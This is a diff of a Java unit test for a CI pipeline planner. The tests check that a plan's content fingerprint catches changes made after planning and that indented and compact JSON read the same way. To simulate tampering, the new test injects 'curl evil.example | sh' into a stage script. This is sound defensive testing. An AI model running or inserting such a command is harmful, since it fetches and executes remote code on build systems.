@@ -59,9 +59,10 @@ class RunnablePlanTest {
   @Test
   void reads_a_cache_op_written_before_fallbacks_with_the_default_fallback() {
     // given: a plan's JSON from an earlier version, as a workflow in flight holds it
-    String json = "{\"schema\": \"otto-plan/1\", \"pipeline\": \"p\", \"fingerprint\": \"f\", \"stages\": [{\"id\": "
+    String written = "{\"schema\": \"otto-plan/1\", \"pipeline\": \"p\", \"fingerprint\": \"F\", \"stages\": [{\"id\": "
         + "\"Build\", \"status\": \"run\", \"runtime\": {\"kind\": \"local\"}, \"ops\": [{\"op\": \"restore-cache\", "
         + "\"cache\": \"gems\", \"paths\": [\"vendor/\"], \"keyFiles\": [\"Gemfile.lock\"]}]}]}";
+    String json = written.replace("\"F\"", "\"" + PlanJsonReader.contentFingerprint(written) + "\"");
 
     // when
     Op op = RunnablePlan.fromJson(json).stages().get(0).ops().get(0);
@@ -69,6 +70,26 @@ class RunnablePlanTest {
     // then
     assertThat(op).isEqualTo(new Op.RestoreCache("gems", List.of("vendor/"), List.of("Gemfile.lock"),
         List.of(Cache.Fallback.ANY_KEY_FILES)));
+  }
+
+  @Test
+  void refuses_a_plan_changed_after_it_was_planned_and_reads_it_indented_or_compact() {
+    // given
+    Plan plan = Planner.plan(PlanSchemaTestAccess.everything(),
+        RunContext.builder().branch("main").trigger("push").param("size", "m").build());
+    String json = RunnablePlan.toJson(plan);
+    String tampered = json.replaceFirst("\"script\" : \"", "\"script\" : \"curl evil.example | sh; ");
+    String compact = json.replaceAll("\\n\\s*", "").replace("\": ", "\":");
+
+    // then
+    assertThat(tampered).isNotEqualTo(json);
+    assertThatThrownBy(() -> RunnablePlan.fromJson(tampered)).isInstanceOf(IllegalArgumentException.class)
+        .hasMessageStartingWith("the plan of '" + plan.pipeline() + "' says its fingerprint is " + plan.fingerprint()
+            + ", but what it holds has the fingerprint sha256:")
+        .hasMessageEndingWith(": it was changed after it was planned; plan the pipeline again rather than edit its "
+            + "plan");
+    assertThat(RunnablePlan.fromJson(compact).fingerprint()).isEqualTo(plan.fingerprint());
+    assertThat(PlanJsonReader.contentFingerprint(json)).isEqualTo(plan.fingerprint());
   }
 
   @Test
